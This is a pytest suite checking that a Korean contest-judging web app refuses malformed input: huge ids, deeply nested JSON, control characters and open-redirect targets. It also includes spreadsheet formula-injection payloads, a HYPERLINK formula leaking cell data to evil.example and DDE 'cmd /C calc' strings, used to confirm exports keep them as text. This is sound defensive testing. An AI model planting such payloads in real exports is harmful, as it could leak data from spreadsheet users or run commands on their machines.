"""Every bad input gets a clear answer: a Korean 4xx (or the form's message), nothing stored, never a 500.

Table-driven over what the app declares: every route with an ``<int:...>`` part, every JSON endpoint,
every text field of every form; then the single cases that used to fail (an e-mail address, a
20-digit maximum, a NUL in a reason, a deeply nested contest file, a formula in an entrant's title).
Runs on SQLite and PostgreSQL (PostgreSQL refuses NUL in text and ids beyond 2^31).
"""

from __future__ import annotations

import io
import re
from types import SimpleNamespace

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from werkzeug.routing.converters import NumberConverter
from wtforms import HiddenField, PasswordField, StringField, TextAreaField

from judging import forms
from judging.inputs import MAX_ID, BoundedIntConverter, nesting_depth, parse_json
from judging.models import AuditEvent, Conflict, Criterion, EntryComment, Score, User
from judging.services import contest_file, declarations
from judging.services.errors import DomainError
from judging.views.common import http_status
from tests.support.accounts import sign_in
from tests.support.pages import page_text
from tests.support.routes import BLUEPRINT_ROLES

HUGE = (2**63, 2**64 + 7, MAX_ID + 1, 10**30)
CONTROL = ("\x00", "가\x00나", "\x1b[31m", "\x7f", "\u0085")


def korean(message: str) -> bool:
    return any("\uac00" <= ch <= "\ud7a3" for ch in message)


def message_of(response) -> str:  # noqa: ANN001
    if response.is_json:
        return response.get_json()["message"]
    page = page_text(response)
    found = (re.findall(r'class="flash flash--\w+"[^>]*>(.*?)</p>', page, re.S)
             + re.findall(r'class="field__error"[^>]*>(.*?)</p>', page, re.S) + re.findall(r"<p>(.*?)</p>", page, re.S))
    return " ".join(found)


def counts(session) -> dict:  # noqa: ANN001
    session.expire_all()
    return {model.__name__: session.scalar(sa.select(sa.func.count()).select_from(model))
            for model in (Score, EntryComment, Conflict, Criterion, User)}


@pytest.fixture()
def one_of_each(session, make_contest, make_user):  # noqa: ANN001, ANN201
    """A judging contest with its round open and one of each role: judge j1 (not yet pledged), an
    organizer and the first entrant's council, with their secrets."""
    contest = make_contest(status="judging")
    rnd = contest.rounds[0]
    rnd.status = "open"
    judge, code = make_user("judge", contest=contest, judge_key="j1")
    organizer, password = make_user("organizer")
    council, council_password = make_user("council", contest=contest, entrant=contest.entrants[0])
    session.commit()
    return SimpleNamespace(contest=contest, round=rnd, judge=judge, code=code, organizer=organizer,
                           password=password, council=council, council_password=council_password,
                           entries={e.key: e.entry for e in contest.entrants},
                           criteria={c.key: c for c in rnd.criteria})


def sign_in_as(client, one_of_each, role: str) -> None:  # noqa: ANN001
    """Sign the one_of_each's judge, organizer or council in."""
    who = {"judge": (one_of_each.judge, one_of_each.code), "organizer": (one_of_each.organizer, one_of_each.password),
           "council": (one_of_each.council, one_of_each.council_password)}[role]
    sign_in(client, *who)


def ready_judge(session, one_of_each) -> None:  # noqa: ANN001
    declarations.pledge(session, one_of_each.judge)
    declarations.declare_conflicts(session, one_of_each.judge,
                             dict.fromkeys(r.entry_id for r in declarations.declaration(session, one_of_each.judge).pending))
    session.commit()


# --- every route with an <int:...> -------------------------------------------------------------

def int_routes(app) -> list[tuple[str, str, object]]:  # noqa: ANN001
    found = []
    for rule in app.url_map.iter_rules():
        if not any(isinstance(c, NumberConverter) for c in rule._converters.values()):
            continue
        blueprint = rule.endpoint.split(".", 1)[0]
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            found.append((blueprint, method, rule))
    return found


def test_every_int_converter_is_bounded(app):
    routes = int_routes(app)
    assert len(routes) >= 30  # 33 endpoints take an id when this was written
    for _blueprint, _method, rule in routes:
        for name, converter in rule._converters.items():
            if isinstance(converter, NumberConverter):
                assert isinstance(converter, BoundedIntConverter), (rule.rule, name)
                assert converter.max == MAX_ID


@pytest.mark.parametrize("huge", HUGE)
def test_every_int_route_answers_404_in_korean_for_ids_beyond_the_database(app, client, session, one_of_each, huge):
    checked = 0
    ready_judge(session, one_of_each)
    for role in ("organizer", "judge", "council"):
        client.post("/sign-out", data={})
        sign_in_as(client, one_of_each, role)
        before = counts(session)
        for blueprint, method, rule in int_routes(app):
            if BLUEPRINT_ROLES.get(blueprint) not in (role, None):
                continue
            path = re.sub(r"<int:[a-z_]+>", str(huge), rule.rule)
            path = path.replace("<slug>", one_of_each.contest.slug)
            path = re.sub(r"<(?:[a-z]+:)?[a-z_]+>", "x", path)
            response = client.open(path, method=method, data={"reason": "사유", "confirm": "y"})
            checked += 1
            assert response.status_code == 404, (role, method, path, response.status_code)
            assert korean(message_of(response)), (role, method, path)
        assert counts(session) == before
    assert checked >= 30


@pytest.mark.parametrize("value", [str(2**63), "99999999999999999999999", "-1", "abc", "1e5"])
@pytest.mark.parametrize("page", ["assignments", "day", "progress.json"])
def test_round_in_the_query_string_is_bounded(client, one_of_each, value, page):
    sign_in_as(client, one_of_each, "organizer")
    response = client.get(f"/organizer/c/{one_of_each.contest.slug}/{page}?round={value}")
    assert response.status_code == 404, (page, value)
    assert korean(message_of(response))


@pytest.mark.parametrize("name", ["entrant", "judge"])
def test_other_query_ids_are_bounded(client, one_of_each, name):
    sign_in_as(client, one_of_each, "organizer")
    page = "entrants/invitations" if name == "entrant" else "judges/cards"
    response = client.get(f"/organizer/c/{one_of_each.contest.slug}/{page}?{name}={2**64}")
    assert response.status_code == 404 and korean(message_of(response))
    assert client.get(f"/organizer/audit?page={2**64}").status_code == 404
    assert client.get("/organizer/audit?page=5").status_code == 200


def test_assignment_pairs_beyond_the_database_are_refused(client, session, one_of_each):
    sign_in_as(client, one_of_each, "organizer")
    response = client.post(f"/organizer/c/{one_of_each.contest.slug}/assignments/{one_of_each.round.id}",
                           data={"pair": [f"{2**63}:{2**63}"]})
    assert response.status_code == 400 and korean(message_of(response))


@pytest.mark.parametrize("back", ["//evil.example/x", "https://evil.example/organizer/", "/organizer/\\evil.example",
                                  "/organizer/x\x00", "/organizer/" + "x" * 2000])
def test_a_return_page_outside_the_organizer_area_is_not_followed(client, one_of_each, back):
    sign_in_as(client, one_of_each, "organizer")
    base = f"/organizer/c/{one_of_each.contest.slug}"
    entry = one_of_each.entries[one_of_each.contest.entrants[0].key]
    response = client.post(f"{base}/entries/{entry.id}/accept", data={"back": back})
    assert response.status_code == 303 and response.headers["Location"] == f"{base}/intake"
    response = client.post(f"{base}/entries/{entry.id}/accept", data={"back": f"{base}/entries/{entry.id}"})
    assert response.status_code == 303 and response.headers["Location"] == f"{base}/entries/{entry.id}"


@pytest.mark.parametrize(("route", "field", "value"), [("tier", "tier_key", "../best"), ("advance", "round_key_prefix", "가"),
                                                       ("order", "rank", "first"), ("order", "rank", str(2**64))])
def test_a_decision_for_a_malformed_tie_is_refused_with_a_message(client, one_of_each, route, field, value):
    sign_in_as(client, one_of_each, "organizer")
    response = client.post(f"/organizer/c/{one_of_each.contest.slug}/results/{route}", data={field: value})
    assert response.status_code == 303 and response.headers["Location"].endswith("/results#ties")
    with client.session_transaction() as flask_session:
        (category, message), = flask_session["_flashes"]
    assert category == "error" and message.startswith(("등급:", "라운드:", "순위:")) and korean(message)


# --- every JSON endpoint -----------------------------------------------------------------------

def json_endpoints(app) -> list[str]:  # noqa: ANN001
    return sorted(rule.rule for rule in app.url_map.iter_rules()
                  if "POST" in rule.methods and "/api/" in rule.rule)


def _valid_body(path: str, one_of_each) -> dict:  # noqa: ANN001
    entry = one_of_each.entries["alpha"].id
    if path.endswith("/scores"):
        return {"entry": entry, "criterion": one_of_each.criteria["need"].id, "value": "18", "version": 0}
    return {"round": one_of_each.round.id, "entry": entry, "body": "좋음", "version": 0}


def hostile_bodies(valid: dict) -> list[tuple[str, bytes | dict]]:
    deep = "[" * 100_000 + "]" * 100_000
    cases: list[tuple[str, bytes | dict]] = [
        ("deep list", deep.encode()),
        ("deep inside", ('{"entry": 1, "value": ' + "{\"a\":" * 5000 + "1" + "}" * 5000 + "}").encode()),
        ("too big", b'{"body": "' + b"a" * 70_000 + b'"}'),
        ("not utf-8", b'{"body": "\xff\xfe"}'),
        ("not json", b"{entry: 1"),
        ("not an object", b"[1, 2]"),
        ("NaN", b'{"entry": NaN}'),
        ("NUL in a key", {**valid, "x\u0000": 1}),
    ]
    for field in ("entry", "version") + (("criterion",) if "criterion" in valid else ("round",)):
        for bad in (2**63, 2**31, -1, "1", 1.5, True, None):
            cases.append((f"{field}={bad!r}", {**valid, field: bad}))
    for bad in CONTROL:
        key = "value" if "criterion" in valid else "body"
        cases.append((f"{key} with {bad!r}", {**valid, key: bad}))
    return cases


def test_there_are_json_endpoints_to_check(app):
    assert json_endpoints(app) == ["/judge/api/comments", "/judge/api/scores"]


def test_every_json_endpoint_refuses_every_hostile_body(app, client, session, one_of_each):
    ready_judge(session, one_of_each)
    sign_in_as(client, one_of_each, "judge")
    app.config["AUTOSAVE_MAX_PER_MINUTE"] = 10_000
    before = counts(session)
    checked = 0
    for path in json_endpoints(app):
        for label, body in hostile_bodies(_valid_body(path, one_of_each)):
            if isinstance(body, dict):
                response = client.post(path, json=body)
            else:
                response = client.post(path, data=body, content_type="application/json")
            checked += 1
            assert response.status_code in (400, 422), (path, label, response.status_code)
            assert response.is_json and korean(response.get_json()["message"]), (path, label)
    assert counts(session) == before
    assert checked >= 60
    # ... and the same endpoints still take a good body.
    for path in json_endpoints(app):
        assert client.post(path, json=_valid_body(path, one_of_each)).status_code == 200


def test_json_reader_limits():
    assert nesting_depth('{"a": "[[[[[[[[[[[["}') == 1
    assert parse_json(b'{"a": [1, {"b": 2.5}]}') == {"a": [1, {"b": __import__("decimal").Decimal("2.5")}]}
    for raw in (b"[" * 9 + b"]" * 9, b"x" * 70_000, b'{"a": "\\u0000"}'):
        with pytest.raises(DomainError) as caught:
            parse_json(raw)
        assert http_status(caught.value) == 400 and korean(caught.value.message)


# --- every text field of every form ------------------------------------------------------------

TEXT_FIELDS = (StringField, TextAreaField, PasswordField, HiddenField)


def all_forms() -> list[tuple[str, object]]:
    made = [(name, cls) for name, cls in vars(forms).items()
            if isinstance(cls, type) and issubclass(cls, forms.BaseForm) and cls is not forms.BaseForm
            and not name.endswith("Base")]
    made += [("conflict_declaration_form", lambda **kw: forms.conflict_declaration_form([7], **kw)),
             ("rubric_form", lambda **kw: forms.rubric_form([(7, ["1", "2"])], **kw)),
             ("tie_break_form", lambda **kw: forms.tie_break_form([("untrimmed_mean", "평균")], [], **kw))]
    return made


def test_every_form_derives_from_the_base_form():
    from flask_wtf import FlaskForm

    strays = [name for name, cls in vars(forms).items() if isinstance(cls, type) and issubclass(cls, FlaskForm)
              and not issubclass(cls, forms.BaseForm) and cls is not FlaskForm]
    assert not strays


@pytest.mark.parametrize("bad", CONTROL)
def test_every_text_field_of_every_form_refuses_control_characters(app, bad):
    checked = 0
    for name, make in all_forms():
        with app.test_request_context(method="POST"):
            fields = [f for f in make(formdata=None) if isinstance(f, TEXT_FIELDS) and f.name != "csrf_token"]
        for field in fields:
            with app.test_request_context(method="POST", data={field.name: f"글{bad}자"}):
                form = make()
                for other in form:  # the views fill select choices in; any will do here
                    if getattr(other, "choices", ()) is None:
                        other.choices = []
                assert not form.validate(), (name, field.name)
                errors = " ".join(str(e) for e in form[field.name].errors)
                assert "제어 문자" in errors, (name, field.name, form.errors)
                checked += 1
    assert checked >= 60


def criterion_form(prefix: str, scale: str = "points", **fields: str) -> dict:
    return {f"{prefix}-{name}": value for name, value in {"scale": scale, "weight": "1", **fields}.items()}


@pytest.mark.parametrize("bad", ["가\x00나", "\x08"])
def test_text_with_control_characters_is_refused_through_the_pages(client, session, one_of_each, bad):
    """The failing cases of the probe, through the real routes: nothing stored, a message shown."""
    ready = counts(session)
    # A judge declaring a conflict with a NUL in the reason (the probe's 500).
    one_of_each.judge.pledged_at = __import__("judging.models", fromlist=["utcnow"]).utcnow()
    session.commit()
    sign_in_as(client, one_of_each, "judge")
    alpha = one_of_each.entries["alpha"].id
    data = {f"choice-{e.id}": "none" for e in one_of_each.entries.values() if e is not None}
    data[f"choice-{alpha}"], data[f"reason-{alpha}"] = "conflict", f"친척{bad}"
    response = client.post("/judge/conflicts", data=data)
    assert response.status_code == 400 and "제어 문자" in page_text(response)
    client.post("/sign-out", data={})
    # An organizer registering a judge, editing a criterion, returning an entry.
    sign_in_as(client, one_of_each, "organizer")
    slug = one_of_each.contest.slug
    for path, data in (
        (f"/organizer/c/{slug}/judges", {"name": f"김{bad}", "affiliation": "", "email": ""}),
        (f"/organizer/c/{slug}/setup/rounds/{one_of_each.round.id}/criteria",
         criterion_form(f"nc{one_of_each.round.id}", key="extra", title=f"추가{bad}", max_points="10")),
        (f"/organizer/c/{slug}/entries/{alpha}/return", {f"ret{alpha}-reason": f"보완{bad}"}),
    ):
        response = client.post(path, data=data, follow_redirects=True)
        assert "제어 문자" in page_text(response), path
    client.post("/sign-out", data={})
    # A sign-in with a NUL in the ID.
    response = client.post("/sign-in", data={"login": f"organizer{bad}", "password": "x" * 8})
    assert response.status_code == 400 and "제어 문자" in page_text(response)
    assert counts(session) == ready


def test_contest_file_with_control_characters_or_deep_nesting_is_refused(session):
    nul = '[contest]\nslug = "x"\ntitle = "가\\u0000나"\n'
    deep = "[contest]\nslug = \"x\"\nextra = " + "[" * 50_000 + "]" * 50_000 + "\n"
    for text_ in (nul, deep):
        with pytest.raises(DomainError) as caught:
            contest_file.load(session, text_)
        assert korean(caught.value.message)


# --- single cases of the probe ---------------------------------------------------------------

def test_registering_a_judge_with_an_email_address_works_and_a_bad_one_is_explained(client, session, one_of_each):
    sign_in_as(client, one_of_each, "organizer")
    slug = one_of_each.contest.slug
    response = client.post(f"/organizer/c/{slug}/judges",
                           data={"name": "김메일", "affiliation": "가대학교", "email": "kim@example.ac.kr"})
    assert response.status_code == 303
    assert session.scalar(sa.select(User.email).where(User.name == "김메일")) == "kim@example.ac.kr"
    response = client.post(f"/organizer/c/{slug}/judges", data={"name": "이메일", "email": "not-an-address"},
                           follow_redirects=True)
    assert response.status_code == 200 and "이메일 형식이 아닙니다" in page_text(response)
    assert session.scalar(sa.select(User).where(User.name == "이메일")) is None


@pytest.mark.parametrize("maximum", ["1" + "0" * 25, "99999999999999999999.5", "10001", "1e30", "0.001"])
def test_a_criterion_maximum_too_large_or_too_fine_is_refused(client, session, make_contest, one_of_each, maximum):
    contest = make_contest(slug="draft-2024")
    sign_in_as(client, one_of_each, "organizer")
    rnd = contest.rounds[0]
    before = counts(session)
    response = client.post(f"/organizer/c/{contest.slug}/setup/rounds/{rnd.id}/criteria",
                           data=criterion_form(f"nc{rnd.id}", key="huge", title="큰 배점", max_points=maximum),
                           follow_redirects=True)
    assert response.status_code == 400  # the form comes back, the reason beside the field
    assert re.search("배점|최대 점수|숫자", message_of(response)), message_of(response)
    assert counts(session) == before
    criterion = rnd.criteria[0]
    response = client.post(f"/organizer/c/{contest.slug}/setup/criteria/{criterion.id}",
                           data=criterion_form(f"c{criterion.id}", key=criterion.key, title=criterion.title,
                                               max_points=maximum, scale=criterion.scale), follow_redirects=True)
    assert re.search("배점|최대 점수|숫자", message_of(response)), message_of(response)
    session.expire_all()
    assert session.get(Criterion, criterion.id).max_points == criterion.max_points


def test_a_huge_maximum_in_a_contest_file_is_refused(session):
    from tests.support.contests import SMALL_CONTEST

    text_ = SMALL_CONTEST.format(slug="huge-2024").replace("max = 20, scale = \"grades\"",
                                                            "max = 100000000000000000000000, scale = \"grades\"")
    with pytest.raises(DomainError) as caught:
        contest_file.load(session, text_)
    assert korean(caught.value.message)


# --- formula injection ----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"자료")'


def _formula_cells(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_formula_like_titles_stay_text_in_every_export(client, session, runner, tmp_path):
    from tests.support.demo import publish_demo

    contest = publish_demo(session, commit=False)
    for entrant in contest.entrants:
        entrant.entry.title = EVIL
        entrant.district = "+cmd|' /C calc'!A0"
        entrant.name = "@SUM(1+1)*cmd|' /C calc'!A0" if entrant.key == "gobong" else entrant.name
    from judging.services import publishing

    publishing.publish(session, contest, note="제목 수정")
    contest.public_scores = True
    session.commit()
    public_xlsx = client.get(f"/results/{contest.slug}.xlsx")
    public_csv = client.get(f"/results/{contest.slug}.csv")
    assert public_xlsx.status_code == public_csv.status_code == 200
    response = client.post("/sign-in", data={"login": "organizer", "password": "demo-organizer-2024"})
    assert response.status_code == 302
    org_xlsx = client.get(f"/organizer/c/{contest.slug}/export.xlsx")
    org_csv = client.get(f"/organizer/c/{contest.slug}/export.csv")
    assert org_xlsx.status_code == org_csv.status_code == 200
    for data in (public_xlsx.data, org_xlsx.data):
        assert _formula_cells(data) == []
        wb = load_workbook(io.BytesIO(data))
        values = [c.value for ws in wb for row in ws.iter_rows() for c in row]
        assert EVIL in values  # shown exactly as typed, as text
    for data in (public_csv.data, org_csv.data):
        body = data.decode("utf-8-sig")
        assert EVIL.replace('"', '""') in body
        for line in body.splitlines()[1:]:
            import csv

            for cell in next(csv.reader([line])):
                assert not cell.startswith(("=", "+", "@")), cell
    result = runner.invoke(args=["tally", contest.slug, "--format", "csv"])
    assert result.exit_code == 0
    assert "\n=" not in result.output and ",=" not in result.output


def test_audit_of_refusals_records_nothing_for_a_malformed_body(client, session, one_of_each):
    ready_judge(session, one_of_each)
    sign_in_as(client, one_of_each, "judge")
    session.expire_all()
    before = session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(AuditEvent.action.like("score%")))
    client.post("/judge/api/scores", data=b"[" * 1000, content_type="application/json")
    session.expire_all()
    after = session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(AuditEvent.action.like("score%")))
    assert after == before

